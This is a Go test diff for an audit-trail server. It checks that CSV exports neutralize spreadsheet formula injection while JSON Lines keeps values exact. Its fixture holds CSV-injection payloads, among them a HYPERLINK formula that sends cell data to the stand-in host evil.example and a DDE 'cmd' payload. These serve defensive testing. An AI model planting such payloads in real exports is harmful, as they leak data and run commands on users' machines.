@@ -3,6 +3,8 @@ package trailserver_test
 import (
 	"bufio"
 	"context"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
@@ -140,3 +142,52 @@ func TestExportBoundedMemory(t *testing.T) {
 }
 
 func mib(n int64) string { return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20)) }
+
+// A CSV export neutralizes spreadsheet formulas in every text cell (CSV
+// injection); JSON Lines keeps the text exact.
+func TestExportCSVNeutralizesFormulas(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, backends[0], nil)
+	hostile := map[string]string{
+		"description": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"target_id":   "+1+cmd|' /C calc'!A0",
+		"actor_id":    "@SUM(1+1)",
+		"request_id":  "-2+3",
+		"trace_id":    "\tindented",
+		"source":      "plain-text",
+	}
+	ev := trail.Event{ID: uuid.Must(uuid.NewV7()), OccurredAt: time.Now().UTC(), Tenant: "acme",
+		Actor:  trail.Actor{Type: trail.ActorUser, ID: hostile["actor_id"]},
+		Action: "csv.check", Target: trail.Target{Type: "doc", ID: hostile["target_id"]},
+		Description: hostile["description"], RequestID: hostile["request_id"], TraceID: hostile["trace_id"],
+		Source: hostile["source"], Outcome: trail.OutcomeSuccess, SchemaVersion: 1}
+	if _, err := f.store.Append(context.Background(), []trail.Event{ev}); err != nil {
+		t.Fatal(err)
+	}
+	r := f.do("GET", "/v1/export?format=csv&tenant=acme&action=csv.check", "readerA", nil)
+	recs, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
+	if err != nil || r.status != 200 || len(recs) != 2 {
+		t.Fatalf("export csv: %d %v %q", r.status, err, r.body)
+	}
+	col := map[string]string{}
+	for i, name := range recs[0] {
+		col[name] = recs[1][i]
+	}
+	for name, v := range hostile {
+		want := v
+		if strings.ContainsAny(v[:1], "=+-@\t") {
+			want = "'" + v
+		}
+		if col[name] != want {
+			t.Errorf("csv %s = %q, want %q", name, col[name], want)
+		}
+	}
+	if col["id"] != ev.ID.String() {
+		t.Errorf("csv id = %q", col["id"])
+	}
+	r = f.do("GET", "/v1/export?format=jsonl&tenant=acme&action=csv.check", "readerA", nil)
+	var got trail.Event
+	if err := json.Unmarshal(r.body, &got); err != nil || got.Description != hostile["description"] || got.Target.ID != hostile["target_id"] {
+		t.Fatalf("jsonl is not exact: %v %+v", err, got)
+	}
+}
